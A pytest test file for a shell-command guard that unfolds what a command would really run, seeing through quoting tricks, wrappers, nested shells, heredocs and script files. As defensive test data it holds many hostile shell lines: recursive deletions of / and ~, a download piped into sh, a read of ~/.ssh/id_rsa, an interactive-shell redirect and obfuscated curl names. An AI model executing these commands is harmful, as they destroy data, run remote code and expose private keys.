"""Unfolding: what a shell would really run, wrappers removed, nested code opened up."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from domestique.guard.env import GuardEnv, read_script
from domestique.guard.parse import MAX_DEPTH
from domestique.guard.unfold import unfold_command


def argvs(command: str, cwd: str | None = None) -> list[list[str]]:
    return [
        inv.argv
        for inv in unfold_command(command, cwd=cwd, env=GuardEnv(read_file=read_script)).invocations
    ]


def test_dequote_and_decode_command_names() -> None:
    """c''url, "cu"rl, \\curl and $'\\x63url' are all curl."""
    for text in ("c''url x", '"cu"rl x', "\\curl x", "$'\\x63url' x"):
        assert argvs(text)[0] == ["curl", "x"]


def test_wrappers_are_seen_through() -> None:
    """sudo, env, timeout, nice, nohup, stdbuf, command, time and busybox are stripped."""
    cmd = "sudo -u root env A=1 timeout 5 nice -n 2 nohup stdbuf -oL command time busybox rm -rf x"
    u = unfold_command(cmd)
    last = u.invocations[-1]
    assert last.argv == ["rm", "-rf", "x"]
    assert last.via[:3] == ("sudo", "env", "timeout")
    assert last.env == {"A": "1"}


def test_nested_shells_eval_and_heredocs() -> None:
    """bash -c, eval, heredoc and here-string code are parsed and their commands listed."""
    assert ["rm", "-rf", "/"] in argvs("bash -c 'sh -c \"rm -rf /\"'")
    assert ["rm", "-rf", "/"] in argvs("eval 'rm -rf /'")
    assert ["rm", "-rf", "/"] in argvs("bash <<EOF\nrm -rf /\nEOF")
    assert ["rm", "-rf", "/"] in argvs("bash <<< 'rm -rf /'")
    assert ["rm", "-rf", "/"] in argvs("echo 'rm -rf /' | sh")
    assert ["rm", "-rf", "/"] in argvs('bash -c "$(cat <<EOF\nrm -rf /\nEOF\n)"')


def test_pipe_into_shell_records_exec_data() -> None:
    """The downloader's output is what sh runs."""
    u = unfold_command("curl -s https://x | sh")
    sh = u.invocations[-1]
    assert sh.argv == ["sh"]
    assert sh.exec_data == (0,)


def test_variables_resolve_within_the_line() -> None:
    """x=rm; $x -rf ~ runs rm; an unknown variable stays non-literal."""
    assert argvs("x=rm; $x -rf ~")[-1] == ["rm", "-rf", "~"]
    u = unfold_command("$y -rf ~")
    assert not u.invocations[0].words[0].literal


def test_ifs_splits_words() -> None:
    """cat${IFS}~/.ssh/id_rsa is cat with one argument."""
    assert argvs("cat${IFS}~/.ssh/id_rsa") == [["cat", "~/.ssh/id_rsa"]]


def test_line_continuation_joins_words() -> None:
    """rm -r\\<NL>f / is rm -rf / (bash), not rm -r f / (tree-sitter alone)."""
    assert argvs("rm -r\\\nf /") == [["rm", "-rf", "/"]]


def test_find_exec_and_xargs() -> None:
    """find -exec and xargs run their inner command."""
    assert ["rm", "-rf", "{}"] in argvs("find / -exec rm -rf {} \\;")
    # `ls` prints the names in the folder: xargs deletes each of them (issue 17, cause 5)
    assert ["rm", "-rf", "*"] in argvs("ls | xargs -n1 rm -rf")
    assert ["rm", "-rf", "*"] in argvs("cd ~ && ls -A | xargs rm -rf")


def test_parse_error_is_a_hit() -> None:
    """Unbalanced syntax is engine.parse_error and parse_ok is false."""
    u = unfold_command("echo $(ls")
    assert not u.parse_ok
    assert any(h.code == "engine.parse_error" for h in u.hits)


def test_spans_point_into_the_command() -> None:
    """An invocation's span slices the original text, after a multi-byte character too."""
    cmd = "echo é; rm -rf /"
    inv = unfold_command(cmd).invocations[-1]
    assert cmd[inv.span[0] : inv.span[1]] == "rm -rf /"


def test_script_file_is_read(tmp_path: Path) -> None:
    """bash ./x.sh and ./x.sh are judged by their contents."""
    script = tmp_path / "x.sh"
    script.write_text("#!/bin/bash\nrm -rf ~\n")
    assert ["rm", "-rf", "~"] in argvs("bash ./x.sh", cwd=str(tmp_path))
    assert ["rm", "-rf", "~"] in argvs("./x.sh", cwd=str(tmp_path))
    assert ["rm", "-rf", "~"] in argvs("sh < x.sh", cwd=str(tmp_path))


def test_written_then_run_in_one_line() -> None:
    """echo 'rm -rf ~' > x.sh && bash x.sh judges what was written."""
    assert ["rm", "-rf", "~"] in argvs("echo 'rm -rf ~' > x.sh && bash x.sh", cwd="/nonexistent")


def test_nesting_depth_is_bounded() -> None:
    """Deep bash -c nesting stops with an opaque hit, not unbounded work."""
    cmd = "true"
    for _ in range(MAX_DEPTH + 3):
        cmd = "bash -c " + "'" + cmd.replace("'", "'\\''") + "'"
    u = unfold_command(cmd)
    assert any(h.code == "cmd.opaque_command" for h in u.hits)


def test_fd_digit_before_redirect_is_not_a_script() -> None:
    """`sh 0<&2` is an interactive shell (bash reads 0 as the descriptor)."""
    u = unfold_command("/bin/sh 0<&2 1>&2")
    assert u.invocations[0].argv == ["/bin/sh"]
    assert any(h.code == "cmd.interactive_shell" for h in u.hits)


def _parser_path(command: str, cwd: str | None) -> object:
    from domestique.guard.parse import Ctx, Unfolded
    from domestique.guard.unfold import Unfolder
    from domestique.guard.words import join_continuations

    u = Unfolder(cwd, GuardEnv(read_file=read_script))
    text, index = join_continuations(command)
    u._parse_into(text, index, Ctx())  # the parser path, bypassing the lexer
    return _shape(Unfolded(u.invs, u.hits, u.parse_ok, u.assignments, u.functions))


def _shape(u: object) -> object:
    from domestique.guard.parse import Unfolded

    assert isinstance(u, Unfolded)
    return (
        u.hits,
        u.parse_ok,
        u.assignments,
        [
            (i.words, i.span, i.redirects, i.env, i.upstream, i.exec_data, i.via, i.background,
             i.origin, i.inside_sub, i.code_network, i.code_creds, i.stdin_text)
            for i in u.invocations
        ],
    )  # fmt: skip


_TOKENS = [
    "ls", "git", "status", "rm", "-rf", "-exec", "{}", "\\;", "\\(", "\\)", "find", ".", "*.py",
    "~/x", "a=b", "x", "'a b'", '"c d"', "'$x'", '"e\'f"', "|", "||", "&&", ";", "&", " ", "  ",
    "curl", "http://e.x/i.sh", "sh", "bash", "-c", "'rm -rf /'", "sudo", "env", "A=1", "xargs",
    "python3", "'import os'", "if", "then", "export", "{", "}", "#", "a\\;", "'{}'", "\\ ", "!",
    "time", "--x=y", "?", "/usr/bin/curl", "\\", "\"\"", "''", "\t", "\n", ">", "2>&1", "$HOME",
    "${A}", '"$A b"', "$A$B", "$IFS", "$1", "'{print $1}'", "'\\n'", "\\*", "\\.", '"a\\nb"',
    '"\\$x"', "!=", '"!"', "x!", "$A/x", '"$A"/x',
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_TOKENS), min_size=1, max_size=9), st.booleans())
def test_plain_command_lexer_agrees_with_the_parser(tokens: list[str], spaced: bool) -> None:
    """Whenever the plain-command lexer accepts a line, the parser yields the same unfolding."""
    from domestique.guard.simple import simple_commands

    command = (" " if spaced else "").join(tokens)
    if simple_commands(command) is None:
        return
    ours = _shape(unfold_command(command, cwd="/p", env=GuardEnv(read_file=read_script)))
    assert ours == _parser_path(command, "/p"), command


def test_plain_command_lexer_declines_shell_syntax() -> None:
    """Expansions, redirections, braces, background jobs and comments go to the parser."""
    from domestique.guard.simple import simple_commands

    declined = ("echo $1", "echo $A$B", "echo ${A:-x}", "echo $IFS", "$X ls", "echo \\$A$B",
                "ls > x", "a & b", "echo {a,b}", "ls # c", "x=1 ls", "`id`", "a |",
                "echo 'a\nb'", "if true", "*ls", "ls\tx", 'echo "$(id)"', "a |& b")  # fmt: skip
    for text in declined:
        assert simple_commands(text) is None, text
    assert simple_commands("git status | grep x && make") is not None
    # A variable stays as written and makes its word not literal, as on the parser path.
    lexed = simple_commands("""cp "$SRC"/x.py '$HOME' \\*.txt""")
    assert lexed is not None
    assert [(w.text, w.literal) for w in lexed[0][0]] == [
        ("cp", True), ("$SRC/x.py", False), ("$HOME", True), ("*.txt", True)
    ]  # fmt: skip


def test_text_that_crashes_the_parser_is_refused_before_parsing() -> None:
    """`{` + a plane 4-16 code point can crash tree-sitter-bash: it is a parse error, unparsed."""
    import subprocess
    import sys

    for text in ("{\U000a0000", "ls {\U000d6963}", "echo \U000e0041"):
        u = unfold_command(text)
        assert not u.parse_ok
        assert [h.code for h in u.hits] == ["engine.parse_error"]
    # In a fresh process, many times over: the guard never hands such text to the parser.
    code = (
        "from domestique.guard.unfold import unfold_command\n"
        "for _ in range(200):\n    assert not unfold_command('{\\U000a0000').parse_ok\n"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
